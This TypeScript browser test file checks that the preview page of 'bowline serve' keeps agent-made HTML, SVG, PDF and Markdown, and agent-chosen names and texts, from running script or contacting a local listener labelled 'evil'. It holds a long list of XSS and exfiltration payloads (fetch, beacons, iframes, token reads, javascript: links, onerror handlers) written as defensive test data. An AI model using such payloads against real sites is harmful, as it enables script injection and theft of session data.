/**
 * Attacks on the page of `bowline serve` in a real browser: files that a session made, and
 * names and texts that a model or an agent chose. A listener counts what reaches it.
 */
import assert from "node:assert/strict";
import { once } from "node:events";
import { mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as pause } from "node:timers/promises";
import { after, before, describe, it } from "node:test";
import type { Browser, Page } from "playwright-core";
import { permissionOption, planEntry, toolContent, update } from "../../../lib/acp/index.ts";
import { launchBrowser, noBrowser, openPage, send } from "../../support/serve/browser.ts";
import { scriptedAgent, type TurnScript } from "../../support/serve/scripted-agent.ts";
import { served, token } from "../../support/serve/test-server.ts";

/** How long an attack has to reach the listener. */
const reachMs = 3000;

describe("attacks on the page", { skip: noBrowser }, () => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), "bowline-attack-")));
  const reached: string[] = [];
  const tcp = createServer((socket) => {
    socket.on("error", () => {});
    socket.once("data", (bytes) => {
      reached.push(bytes.toString("latin1").split("\r\n")[0] ?? "");
      socket.end("HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: 0\r\n\r\n");
    });
  });
  let browser: Browser;
  let evil = "";
  before(async () => {
    browser = await launchBrowser();
    tcp.listen(0, "127.0.0.1");
    await once(tcp, "listening");
    evil = `127.0.0.1:${(tcp.address() as AddressInfo).port}`;
  });
  after(async () => {
    await browser.close();
    tcp.close();
    rmSync(root, { recursive: true });
  });

  /** A turn that makes the files. */
  function maker(files: Readonly<Record<string, string>>): TurnScript {
    return async ({ show }) => {
      for (const [name, text] of Object.entries(files)) {
        const path = join(root, name);
        writeFileSync(path, text);
        const content = [toolContent.diff(path, null, text)];
        const call = { toolCallId: name, title: "Write", name: "Write", kind: "edit", content } as const;
        await show(update.toolCall({ ...call, status: "in_progress" }));
        await show(update.toolCallUpdate({ toolCallId: name, status: "completed", content }));
      }
    };
  }

  /** Every way out that a script of a page has. Each is tried on its own, so that none stops the others. */
  const ways = (): string => {
    const tries = [
      "parent.document.title = 'broken in'",
      "top.document.title = 'broken in'",
      "parent.sessionStorage.getItem('token')",
      "document.cookie = 'a=b'",
      "localStorage.setItem('a', 'b')",
      `fetch('http://${evil}/fetch')`,
      `fetch('/sessions', { headers: { authorization: 'Bearer ${token}' } })`,
      `const x = new XMLHttpRequest(); x.open('GET', 'http://${evil}/xhr'); x.send()`,
      `new WebSocket('ws://${evil}/socket')`,
      `new EventSource('http://${evil}/events')`,
      `navigator.sendBeacon('http://${evil}/beacon', 'x')`,
      `new Image().src = 'http://${evil}/image'`,
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://${evil}/css' }))`,
      ...["prefetch", "preconnect", "dns-prefetch", "modulepreload", "prerender", "icon"].map(
        (rel) =>
          `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', href: 'http://${evil}/${rel}' }))`,
      ),
      `document.body.append(Object.assign(document.createElement('script'), { src: 'http://${evil}/script' }))`,
      `document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://${evil}/frame' }))`,
      `document.body.append(Object.assign(document.createElement('object'), { data: 'http://${evil}/object' }))`,
      `document.body.append(Object.assign(document.createElement('video'), { src: 'http://${evil}/video' }))`,
      `document.body.append(Object.assign(document.createElement('style'), { textContent: '@import url(http://${evil}/import)' }))`,
      `new Worker(URL.createObjectURL(new Blob(["fetch('http://${evil}/worker')"])))`,
      `window.open('http://${evil}/open')`,
      `const form = document.createElement('form'); form.action = 'http://${evil}/form'; document.body.append(form); form.submit()`,
      `const a = document.createElement('a'); a.href = 'http://${evil}/blank'; a.target = '_blank'; a.click()`,
      `top.location = 'http://${evil}/top'`,
      `parent.postMessage({ type: 'token' }, '*')`,
      `setTimeout(() => { location = 'http://${evil}/location' }, 800)`,
    ];
    return tries.map((code) => `<script>try { ${code} } catch {}</script>`).join("\n");
  };

  async function opened(page: Page, name: string): Promise<void> {
    await page.getByRole("button", { name: `Open ${name}`, exact: true }).click();
    await page.locator("#dialog iframe").waitFor();
  }

  it("the scripts of a previewed page reach nothing, in the frame and in a tab of its own", async () => {
    const page = `<h1>made</h1><meta http-equiv="refresh" content="1;url=http://${evil}/refresh">${ways()}`;
    const harness = await served({ startAgent: scriptedAgent(maker({ "page.html": page })).start, roots: [root] });
    const visit = await openPage(browser, harness.url);
    try {
      reached.length = 0;
      await send(visit.page, "Make it");
      await opened(visit.page, "page.html");
      await pause(reachMs);
      assert.deepEqual(reached, [], "in the frame");
      assert.match(visit.page.url(), new RegExp(`^${harness.url}`));
      assert.doesNotMatch(await visit.page.title(), /broken/);
      const [tab] = await Promise.all([
        visit.page.context().waitForEvent("page"),
        visit.page.getByRole("link", { name: "Open in a tab" }).click(),
      ]);
      await tab.frameLocator("iframe").getByText("made").waitFor();
      await pause(reachMs);
      assert.deepEqual(reached, [], "in a tab");
      assert.match(tab.url(), new RegExp(`^${harness.url}previews/`));
      assert.deepEqual(await visit.page.context().cookies(), []);
    } finally {
      await visit.close();
      await harness.close();
    }
  });

  it("SVG, PDF and Markdown that a session made run no script and load nothing", async () => {
    const code = `new Image().src='http://${evil}/';fetch('http://${evil}/')`;
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"><script>${code}</script><image href="http://${evil}/image"/><style>@import url(http://${evil}/css)</style><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://${evil}/frame"/></foreignObject><a href="javascript:${code}"><text y="20">made</text></a></svg>`;
    const markdown = `<script>${code}</script><img src=x onerror="${code}">\n\n[click](javascript:alert(1)) [data](data:text/html,<script>${code}</script>) ![x](http://${evil}/image)\n\n<iframe src="http://${evil}/frame"></iframe>\n`;
    const files = { "plan.svg": svg, "paper.pdf": `%PDF-1.4\n<script>${code}</script>`, "notes.md": markdown };
    const harness = await served({ startAgent: scriptedAgent(maker(files)).start, roots: [root] });
    const visit = await openPage(browser, harness.url);
    try {
      reached.length = 0;
      await send(visit.page, "Make them");
      for (const name of ["plan.svg", "paper.pdf"]) {
        await opened(visit.page, name);
        await pause(500);
        await visit.page.keyboard.press("Escape");
      }
      await visit.page.getByRole("button", { name: "Open notes.md", exact: true }).click();
      await visit.page.locator("#dialog .words").waitFor();
      assert.equal(
        await visit.page.locator("#dialog .words :is(script, img, iframe, a:not([href^='http']))").count(),
        0,
      );
      for (const name of ["plan.svg", "paper.pdf"]) {
        const { json } = await harness.call("POST", `${await sessionOf(harness)}/previews`, {
          body: { path: join(root, name) },
        });
        const tab = await visit.page.context().newPage();
        await tab.goto(`${harness.url}${json.url}`).catch(() => {});
        await pause(500);
        await tab.close();
      }
      assert.deepEqual(reached, []);
    } finally {
      await visit.close();
      await harness.close();
    }
  });

  const sessionOf = async (harness: {
    readonly call: (method: string, path: string) => Promise<any>;
  }): Promise<string> => `/sessions/${(await harness.call("GET", "/sessions")).json.sessions[0].id}`;

  it("markup in any name or text that an agent chooses is shown as text", async () => {
    const x = `"'><img src=http://${evil}/x onerror="window.broken=1"><script>window.broken=1</script><svg onload=window.broken=1>{{7*7}}`;
    const link = `[x](javascript:window.broken=1) <a href="javascript:window.broken=1">x</a> http://${evil}/"onmouseover="window.broken=1`;
    const names = ["constructor", "__proto__", "toString", "hasOwnProperty"];
    const script: TurnScript = async ({ show, ask, elicit }) => {
      await show(update.sessionInfo({ title: x }));
      await show(update.availableCommands([{ name: `${x.replaceAll(/\s/g, "")}`, description: x }]));
      await show(update.agentThought(x + link));
      await show(
        update.agentMessage(
          `${x}\n\n${link}\n\n# ${x}\n\n- ${x}\n\n> ${x}\n\n| ${x} |\n|---|\n| ${x} |\n\n\`\`\`${x}\n${x}\n\`\`\`\n`,
        ),
      );
      await show(update.plan([planEntry(x)]));
      for (const [i, name] of [...names, x].entries())
        for (const kind of ["other", "execute", "edit", "read", "search", "fetch"] as const) {
          const call = {
            toolCallId: `${i}-${kind}`,
            title: x,
            name,
            kind,
            rawInput: { command: x, url: x, pattern: x },
          };
          const content = [toolContent.diff(`/${x}`, x, `${x}\n${x}`), toolContent.block(x)];
          await show(update.toolCall({ ...call, status: "in_progress", content }));
          await show(update.toolCallUpdate({ toolCallId: call.toolCallId, status: "completed", content }));
        }
      await ask({ toolCallId: "q", title: x, name: "constructor", kind: "other", rawInput: { [x]: x } }, [
        permissionOption("allow_once", x, x),
        permissionOption("reject_once", "no", "No"),
      ]);
      await elicit(x, {
        type: "object",
        properties: {
          [x]: { type: "string", title: x, description: x, oneOf: [{ const: x, title: x, description: x }] },
          other: { type: "string", title: x, pattern: "(" },
        },
      });
      throw new Error(x);
    };
    const harness = await served({
      startAgent: scriptedAgent(script).start,
      roots: [root],
      agentName: x,
    });
    const visit = await openPage(browser, harness.url);
    try {
      reached.length = 0;
      await send(visit.page, x + link);
      await visit.page.getByRole("button", { name: "No", exact: true }).click({ delay: 700 });
      await pause(800);
      await visit.page
        .getByRole("button", { name: "No", exact: true })
        .click()
        .catch(() => {});
      await visit.page.getByRole("button", { name: "Do not answer" }).waitFor();
      await pause(800);
      await visit.page.getByRole("button", { name: "Do not answer" }).click();
      await visit.page.locator(".error").waitFor();
      assert.equal(await visit.page.evaluate("window.broken"), undefined);
      assert.equal(
        await visit.page.locator("#log :is(img, script, svg[onload], iframe), #log a[href^='javascript']").count(),
        0,
      );
      await visit.page.reload();
      await visit.page.locator(".error").waitFor();
      assert.equal(await visit.page.evaluate("window.broken"), undefined);
      assert.deepEqual(reached, []);
      assert.deepEqual(visit.complaints, []);
    } finally {
      await visit.close();
      await harness.close();
    }
  });
});
